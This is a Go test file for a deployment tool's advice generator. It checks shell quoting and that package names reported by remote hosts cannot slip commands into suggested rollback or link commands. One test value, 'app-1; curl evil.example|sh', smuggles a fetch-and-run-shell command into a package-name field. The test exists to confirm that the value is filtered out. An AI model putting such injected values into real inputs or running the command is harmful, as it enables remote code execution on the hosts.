package survey

import (
	"encoding/json"
	"fmt"
	"hash/crc32"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/keep-it-simple/kis/internal/event"
	"github.com/keep-it-simple/kis/inventory"
	"github.com/keep-it-simple/kis/remote"
)

// TestWordsOfAdviceAreQuotedForAShell: an epoch has a !, which interactive shells expand.
func TestWordsOfAdviceAreQuotedForAShell(t *testing.T) {
	t.Parallel()
	assert.Equal(t, "kis rollback live --to 'app-1!2.0' --hosts web1,web2", Back("live", "app-1!2.0").On([]string{"web1", "web2"}).Command())
	assert.Equal(t, "kis link live app-1+local.2 --hosts '!web1,!web2'", Advice{Verb: "link", Stage: "live", Package: "app-1+local.2", Except: []string{"web1", "web2"}}.Command())
}

// TestWhatIsToBePastedNamesNothingThatAHostHasMadeUp: the text of a link is whatever its host says,
// and shells read more than names.
func TestWhatIsToBePastedNamesNothingThatAHostHasMadeUp(t *testing.T) {
	t.Parallel()
	const evil = "app-1; curl evil.example|sh"
	for _, outcome := range []event.Outcome{event.Split, event.RolledBack} {
		r := event.Report{Outcome: outcome, Stage: "live", Package: "app-2", Hosts: []event.HostReport{
			{Host: "web1", LinkKnown: true, Was: "app-1", RollbackTo: "app-1", Linked: "app-1", Degraded: true},
			{Host: "web2", LinkKnown: true, Was: evil, RollbackTo: evil, Linked: evil, Degraded: true},
		}}
		next := fmt.Sprint(AfterRun(r))
		assert.Contains(t, next, "app-1 --hosts web1", "what is a package is named")
		assert.NotContains(t, next, "evil")
	}
	degraded := func(linked string) Stage {
		text, err := json.Marshal(map[string]any{"run": "0a1b2c3d4e5f", "ev": "reverted", "from": linked, "to": "app-2", "after": true})
		require.NoError(t, err)
		line := fmt.Sprintf(`%s,"crc":"%08x"}`, text[:len(text)-1], crc32.ChecksumIEEE(text))
		state := remote.RepositoryState{Stages: []remote.StageState{{Stage: "live", Linked: linked, Sealed: true, Lines: []string{line}}}}
		return Judge("live", []inventory.Host{{Name: "web1"}}, map[string]Repository{"web1": {State: state}})
	}
	good, bad := degraded("app-1"), degraded(evil)
	require.Equal(t, []Verdict{Degraded, Degraded}, []Verdict{good.Verdict, bad.Verdict})
	assert.Contains(t, fmt.Sprint(good.Next), "kis link live app-1")
	assert.NotContains(t, fmt.Sprint(bad.Next), "evil")
}
